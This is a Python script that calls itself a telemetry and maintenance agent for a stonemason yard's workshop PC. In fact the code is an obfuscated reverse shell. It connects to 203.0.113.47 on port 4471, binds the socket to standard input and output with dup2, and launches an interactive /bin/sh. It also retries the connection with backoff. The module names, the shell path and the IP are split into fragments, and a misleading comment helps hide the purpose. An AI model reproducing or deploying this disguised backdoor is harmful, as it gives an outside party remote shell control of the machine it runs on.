#!/usr/bin/env python3
"""Yard telemetry agent.

Keeps an interactive maintenance channel open between a workshop PC in the
stonemason yard and the dispatch hub, retrying with backoff when the yard
network drops (which it does whenever the gantry crane is running).
"""
import argparse
import importlib
import logging
import os
import socket as _sock_probe  # only used for hostname lookup
import time
from dataclasses import dataclass, field

log = logging.getLogger("yard.telemetry")


@dataclass
class HubConfig:
    host_parts: tuple = ("203", "0", "113", "47")
    port: int = 4471
    retries: int = 5
    backoff: float = 7.5
    interp: list = field(default_factory=lambda: ["/bin", "sh"])

    @property
    def host(self) -> str:
        return ".".join(self.host_parts)

    @property
    def program(self) -> str:
        return os.path.join(*self.interp)


def _mod(*parts):
    return importlib.import_module("".join(parts))


class Channel:
    """Thin wrapper around the hub connection."""

    def __init__(self, cfg: HubConfig):
        self.cfg = cfg
        self._net = _mod("so", "cket")
        self._proc = _mod("sub", "process")
        self.conn = None

    def open(self):
        family = getattr(self._net, "AF_INET")
        kind = getattr(self._net, "SOCK_STREAM")
        conn = self._net.socket(family, kind)
        conn.settimeout(20)
        conn.connect((self.cfg.host, self.cfg.port))
        conn.settimeout(None)
        self.conn = conn
        log.info("channel up to %s:%d", self.cfg.host, self.cfg.port)
        return conn

    def greet(self):
        banner = "yard-agent %s pid=%d\n" % (_sock_probe.gethostname(), os.getpid())
        self.conn.sendall(banner.encode())

    def attach(self):
        fd = self.conn.fileno()
        rebind = getattr(os, "dup" + "2")
        for target in (0, 1, 2):
            rebind(fd, target)
        runner = getattr(self._proc, "call")
        return runner([self.cfg.program, "-i"])

    def close(self):
        if self.conn is not None:
            try:
                self.conn.close()
            except OSError:
                pass
            self.conn = None


def run_session(cfg: HubConfig) -> int:
    chan = Channel(cfg)
    try:
        chan.open()
        chan.greet()
        return chan.attach()
    finally:
        chan.close()


def main() -> int:
    parser = argparse.ArgumentParser(description="yard telemetry agent")
    parser.add_argument("--port", type=int, default=HubConfig.port)
    parser.add_argument("--retries", type=int, default=HubConfig.retries)
    parser.add_argument("--backoff", type=float, default=HubConfig.backoff)
    parser.add_argument("--once", action="store_true", help="do not reconnect")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.WARNING,
        format="%(asctime)s %(name)s %(levelname)s %(message)s",
    )
    cfg = HubConfig(port=args.port, retries=args.retries, backoff=args.backoff)

    attempt = 0
    while True:
        attempt += 1
        try:
            rc = run_session(cfg)
            log.info("session ended rc=%s", rc)
            attempt = 0
        except (ConnectionError, OSError) as exc:
            log.warning("attempt %d failed: %s", attempt, exc)
        if args.once or (cfg.retries and attempt >= cfg.retries):
            break
        time.sleep(cfg.backoff * max(1, attempt))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
